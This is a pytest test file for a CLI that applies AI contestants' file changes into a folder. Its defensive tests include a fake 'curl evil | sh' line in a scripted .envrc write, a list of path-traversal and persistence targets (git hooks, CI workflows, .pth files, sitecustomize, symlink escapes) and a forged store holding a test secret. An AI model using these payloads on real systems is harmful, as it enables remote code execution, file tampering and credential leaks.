"""`bakeoff apply`: real bake-offs with scripted models into a temporary store, then the chosen
trial's changes written into a folder — the winner's by default, any by --model/--task, a
conflict refused unless --force, and a contestant's (or a forged store's) paths never landing
outside the folder or on a protected path, nor a key from the environment in a file."""

from __future__ import annotations

import json
import os
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from bakeoff.cli import main
from bakeoff.evals.store.changes import MAX_KEPT_BYTES, changes_between
from bakeoff.evals.trial.diff import Unread

BUGGY = "def add(a, b):\n    return a - b\n"
FIXED = "def add(a, b):\n    return a + b\n"
WRONG = "def add(a, b):\n    return 0\n"
NOTES = "add() now adds.\n"
CHECK = 'python -c \\"import calc; assert calc.add(2, 3) == 5\\"'


def make_task(root: Path, name: str = "calc") -> Path:
    folder = root / name
    (folder / "files").mkdir(parents=True)
    (folder / "files" / "calc.py").write_text(BUGGY)
    (folder / "files" / "README.md").write_text("a calculator\n")
    (folder / "solution").mkdir()
    (folder / "solution" / "calc.py").write_text(FIXED)
    (folder / "task.toml").write_text(
        f'name = "{name}"\nprompt = "Fix add() in calc.py."\ncategory = "bugfix"\n'
        f'difficulty = 1\n[check]\ncommand = "{CHECK}"\ntimeout_s = 60\n'
    )
    return folder


def script(tmp: Path, name: str, *calls: dict[str, Any]) -> str:
    turns: list[dict[str, Any]] = [{"tool_calls": [call]} for call in calls]
    path = tmp / "scripts" / f"{name}.json"
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps([*turns, {"text": "done"}]))
    return f"script:{path}"


def write(path: str, content: str) -> dict[str, Any]:
    return {"name": "write_file", "arguments": {"path": path, "content": content}}


def read(path: str) -> dict[str, Any]:
    return {"name": "read_file", "arguments": {"path": path}}


def fixer(tmp: Path, content: str = FIXED, name: str = "good") -> str:
    return script(tmp, name, read("calc.py"), write("calc.py", content), write("NOTES.md", NOTES))


def run(*args: str) -> None:
    assert main(["run", *args, "--no-preflight", "--store", "store.sqlite"]) in (0, 1)


def apply(*args: str) -> int:
    return main(["apply", *args, "--store", "store.sqlite"])


def tree(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def files_but_the_store(folder: Path) -> dict[str, bytes]:
    return {k: v for k, v in tree(folder).items() if not k.startswith("store.sqlite")}


def copy_of_fixture(tmp: Path, task: Path, name: str = "proj") -> Path:
    target = tmp / name
    target.mkdir()
    for f in (task / "files").iterdir():
        (target / f.name).write_bytes(f.read_bytes())
    return target


def test_the_winners_work_is_written_with_a_diff_summary(
    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    task = make_task(tmp_path)
    good, bad = fixer(tmp_path), fixer(tmp_path, WRONG, "bad")
    run(str(task), "--models", f"{bad},{good}", "--run-id", "r1")
    target = copy_of_fixture(tmp_path, task)
    capsys.readouterr()
    assert apply("--to", str(target)) == 0  # latest, the top-ranked model
    out = capsys.readouterr().out
    assert "script:good on calc" in out and "(passed)" in out
    assert "changed  calc.py" in out and "+1 -1" in out
    assert "added    NOTES.md" in out and "+1 -0" in out
    assert "2 files: 1 added, 1 changed (+2 -1 lines)" in out
    assert tree(target) == {
        "README.md": b"a calculator\n",
        "calc.py": FIXED.encode(),
        "NOTES.md": NOTES.encode(),
    }

    assert apply("r1", "--to", str(target)) == 0  # again: nothing left to write, no conflict
    assert "wrote 0 files" in capsys.readouterr().out

    fresh = tmp_path / "fresh"  # a new folder gets the task's fixture, then the changes
    assert apply("r1", "--to", str(fresh)) == 0
    assert tree(fresh) == tree(target)


def test_model_task_and_repeat_pick_the_trial(
    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    calc, other = make_task(tmp_path), make_task(tmp_path, "calc2")
    good, bad = fixer(tmp_path), fixer(tmp_path, WRONG, "bad")
    run(str(calc), str(other), "--models", f"{good},{bad}", "--run-id", "two")
    target = copy_of_fixture(tmp_path, calc)
    capsys.readouterr()
    assert apply("two", "--to", str(target)) == 2
    assert "has 2 tasks: pick one with --task (calc, calc2)" in capsys.readouterr().err
    assert apply("two", "--task", "calc3", "--to", str(target)) == 2
    assert "no task 'calc3'" in capsys.readouterr().err
    assert apply("two", "--task", "calc2", "--model", "nobody", "--to", str(target)) == 2
    assert "its models: script:good, script:bad" in capsys.readouterr().err
    assert (
        apply(
            "two", "--task", "calc2", "--model", "script:bad", "--repeat", "3", "--to", str(target)
        )
        == 2
    )
    assert "no finished trial of script:bad on calc2 (repeat 3)" in capsys.readouterr().err
    assert tree(target)["calc.py"] == BUGGY.encode()  # nothing written by any refusal

    assert apply("two", "--task", "calc2", "--model", "script:bad", "--to", str(target)) == 0
    assert tree(target)["calc.py"] == WRONG.encode()


def test_a_conflict_is_refused_and_force_writes_over_it(
    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    task = make_task(tmp_path)
    run(str(task), "--models", fixer(tmp_path), "--run-id", "c")
    target = copy_of_fixture(tmp_path, task)
    (target / "calc.py").write_text(BUGGY + "# mine\n")  # changed since the run
    (target / "NOTES.md").write_text("my notes\n")  # and a file the trial adds, already there
    capsys.readouterr()
    assert apply("c", "--to", str(target)) == 2
    captured = capsys.readouterr()
    assert "CONFLICT: changed since the run" in captured.out
    err = captured.err.strip()
    assert (
        len(err.splitlines()) == 1
        and "changed since the run (2 files), nothing written" in err
        and "--force" in err
    )
    assert (target / "calc.py").read_text() == BUGGY + "# mine\n"
    assert (target / "NOTES.md").read_text() == "my notes\n"

    assert apply("c", "--to", str(target), "--force") == 0
    assert (target / "calc.py").read_text() == FIXED
    assert (target / "NOTES.md").read_text() == NOTES


def test_a_prompt_run_leaves_its_files_folder_alone_and_applies_back_to_it(
    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    proj = tmp_path / "proj"
    (proj / "pkg").mkdir(parents=True)
    (proj / "calc.py").write_text(BUGGY)
    (proj / "pkg" / "data.txt").write_text("kept\n")
    os.symlink("calc.py", proj / "link.py")
    before = tree(proj), sorted(os.listdir(proj)), (proj / "calc.py").stat().st_mtime_ns
    good = fixer(tmp_path)
    run("Fix add() in calc.py", "--files", str(proj), "--models", good, "--run-id", "p")
    assert (tree(proj), sorted(os.listdir(proj)), (proj / "calc.py").stat().st_mtime_ns) == before

    capsys.readouterr()
    assert apply("p") == 2  # nothing graded a prompt run without a judge: no winner
    assert "no winner: pick one with --model (script:good)" in capsys.readouterr().err
    assert apply("p", "--model", "script:good") == 0  # into the --files folder, by default
    assert f"-> {proj.resolve()}" in capsys.readouterr().out
    assert (proj / "calc.py").read_text() == FIXED and (proj / "NOTES.md").read_text() == NOTES
    assert os.readlink(proj / "link.py") == "calc.py"

    run("Write a haiku", "--models", good, "--run-id", "nofiles")
    assert apply("nofiles", "--model", "script:good") == 2
    assert "--to DIR is required" in capsys.readouterr().err


def _forge(store: Path, run_id: str, rows: list[tuple[str, str, str | None, bytes | None]]) -> None:
    """Replace the stored changes of the run's one trial: a malicious or damaged store."""
    db = sqlite3.connect(store)
    with db:
        task, model, repeat = db.execute(
            "SELECT task, model, repeat FROM trials WHERE run_id = ?", (run_id,)
        ).fetchone()
        db.execute("DELETE FROM trial_changes WHERE run_id = ?", (run_id,))
        db.executemany(
            "INSERT INTO trial_changes VALUES (?, ?, ?, ?, ?, ?, ?, ?, NULL)",
            [(run_id, task, model, repeat, p, kind, sha, data) for p, kind, sha, data in rows],
        )
    db.close()


HOSTILE = [
    "../escape.txt",
    "/tmp/absolute.txt",
    "sub/../../escape2.txt",
    "./dot.txt",
    "a//b.txt",
    ".envrc",
    "deep/.git/hooks/pre-commit",
    ".github/workflows/ci.yml",
    ".venv/lib/evil.pth",
    "SITECUSTOMIZE.py",
    "link/inner.txt",
    "calc_link.py",
]


def test_forged_paths_never_land_outside_the_folder_or_on_a_protected_path(
    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    task = make_task(tmp_path)
    # The contestant tries too: the workspace refuses these, so they are never kept.
    attacker = script(
        tmp_path, "attacker", write(".envrc", "curl evil | sh\n"), write("../x.py", "x"),
        write(".github/workflows/ci.yml", "on: push\n"), write("ok.txt", "fine\n"),
    )  # fmt: skip
    run(str(task), "--models", attacker, "--run-id", "h")
    target = copy_of_fixture(tmp_path, task)
    assert apply("h", "--to", str(target), "--model", "script:attacker") == 0
    assert sorted(tree(target)) == ["README.md", "calc.py", "ok.txt"]

    outside = tmp_path / "outside"
    outside.mkdir()
    (target / "link").symlink_to(outside, target_is_directory=True)
    (target / "calc_link.py").symlink_to(outside / "victim.py")
    (outside / "victim.py").write_text("victim\n")
    rows = [(p, "added", None, b"pwned\n") for p in HOSTILE] + [
        ("safe.txt", "added", None, b"ok\n")
    ]
    _forge(tmp_path / "store.sqlite", "h", rows)
    snapshot = files_but_the_store(tmp_path)
    capsys.readouterr()
    for flags in ([], ["--force"]):
        assert apply("h", "--to", str(target), "--model", "script:attacker", *flags) == 2
        captured = capsys.readouterr()
        assert len(captured.err.strip().splitlines()) == 1
        assert "refused, nothing written" in captured.err and "--skip-refused" in captured.err
        for path in HOSTILE:
            assert path in captured.out
        assert files_but_the_store(tmp_path) == snapshot
    assert (
        apply("h", "--to", str(target), "--model", "script:attacker", "--skip-refused", "--force")
        == 0
    )
    changed = {k for k, v in files_but_the_store(tmp_path).items() if snapshot.get(k) != v}
    assert changed == {"proj/safe.txt"}  # nothing else, anywhere under tmp_path
    assert not Path("/tmp/absolute.txt").exists()
    assert (outside / "victim.py").read_text() == "victim\n"


def test_a_forged_or_damaged_row_is_refused_not_written(
    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    task = make_task(tmp_path)
    run(str(task), "--models", fixer(tmp_path), "--run-id", "d")
    target = copy_of_fixture(tmp_path, task)
    _forge(tmp_path / "store.sqlite", "d", [("x.txt", "added", None, None)])  # no bytes
    assert apply("d", "--to", str(target)) == 2
    assert "x.txt: not kept: its bytes are missing" in capsys.readouterr().err
    _forge(tmp_path / "store.sqlite", "d", [("x.txt", "exploded", None, b"x")])  # no such kind
    assert apply("d", "--to", str(target)) == 2
    assert "damaged" in capsys.readouterr().err
    assert sorted(tree(target)) == ["README.md", "calc.py"]


SECRET = "sk-test-" + "q7Zt" * 8


def test_a_key_in_a_contestants_file_is_never_stored_nor_written(
    tmp_path: Path,
    isolated_config: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("BAKEOFF_TEST_API_KEY", SECRET)
    task = make_task(tmp_path)
    leaker = script(
        tmp_path, "leaker", write("config.py", f"KEY = '{SECRET}'\n"), write("ok.txt", "fine\n")
    )
    run(str(task), "--models", leaker, "--run-id", "s")
    assert SECRET.encode() not in (tmp_path / "store.sqlite").read_bytes()
    target = copy_of_fixture(tmp_path, task)
    assert apply("s", "--to", str(target), "--model", "script:leaker") == 2
    err = capsys.readouterr().err
    assert "config.py: not kept: it holds a secret from the environment" in err
    assert apply("s", "--to", str(target), "--model", "script:leaker", "--skip-refused") == 0
    assert sorted(tree(target)) == ["README.md", "calc.py", "ok.txt"]

    # A store written elsewhere holds a key this environment knows: refused at apply too.
    _forge(tmp_path / "store.sqlite", "s", [("c2.py", "added", None, SECRET.encode())])
    assert apply("s", "--to", str(target), "--model", "script:leaker") == 2
    assert "c2.py: it holds a secret from the environment" in capsys.readouterr().err
    assert not (target / "c2.py").exists()


def test_what_a_trial_keeps_is_bounded_and_says_what_it_left_out() -> None:
    before = {"a.py": b"old\n", "gone.py": b"bye\n", "link": Unread("symlink -> x (not followed)")}
    after = {
        "a.py": b"new\n",
        "big.bin": Unread("large file, 2000000 bytes, not shown", 2_000_000),
        "b.py": b"x" * 100,
        "c.py": b"y" * 100,
        "link": b"now a file\n",
        "bad\udcff.py": b"name not UTF-8\n",
    }
    kept = {f.path: f for f in changes_between(before, after, budget=150).files}
    assert kept["a.py"].content == b"new\n" and kept["a.py"].kind == "changed"
    assert kept["gone.py"].kind == "deleted" and kept["gone.py"].before_sha256 is not None
    assert kept["b.py"].content == b"x" * 100
    assert kept["c.py"].content is None and "over the 150 bytes" in (kept["c.py"].not_kept or "")
    assert "large file" in (kept["big.bin"].not_kept or "")
    assert "fixture's entry here was not read" in (kept["link"].not_kept or "")
    assert "not plain UTF-8" in (kept["bad\\xff.py"].not_kept or "")
    assert MAX_KEPT_BYTES == 8 * 1024 * 1024
